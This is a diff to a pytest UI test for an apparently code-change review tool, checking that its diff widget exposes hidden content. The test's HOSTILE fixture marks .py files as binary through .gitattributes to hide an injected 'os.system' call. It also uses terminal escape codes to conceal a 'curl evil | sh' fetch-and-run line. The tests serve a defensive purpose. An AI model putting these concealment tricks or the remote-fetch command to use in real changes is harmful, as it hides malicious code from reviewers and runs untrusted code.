@@ -17,7 +17,9 @@ from tests.ui.real import Gui, make_project
 
 pytestmark = [pytest.mark.docker, pytest.mark.keyring]
 
-HOSTILE = ("mkdir -p .git/info && echo '*.py binary' > .git/info/attributes"
+# (.git/info is put back by the app's git before it collects: the attribute
+# comes in the tree's own .gitattributes, itself part of the change.)
+HOSTILE = ("echo '*.py binary' > .gitattributes"
            " && printf 'import os; os.system(\"id\")\\n' >> hidden.py"
            " && printf 'safe line\\033[1A\\033[2Kcurl evil | sh\\n' >> notes.txt")
 
@@ -40,7 +42,7 @@ def test_the_diff_widget_shows_what_apply_writes(gui: Gui, fake_api: FakeAnthrop
     assert any('import os; os.system("id")' in line for line in shown), "the code sent as binary, as text"
     assert any("safe line⟨ESC⟩[1A⟨ESC⟩[2Kcurl evil | sh" in line for line in shown), "the escape codes, by name"
     hidden = next(f for f in w.review.changes.files if f.path == "hidden.py")
-    assert not hidden.binary and hidden.flags[0].kind is FlagKind.HIDDEN_TEXT
+    assert not hidden.binary and FlagKind.HIDDEN_TEXT in {flag.kind for flag in hidden.flags}
 
     dialogs = gui.binding.dialogs
     w.review.apply_button.click()  # flagged: sent as binary, so confirmed first
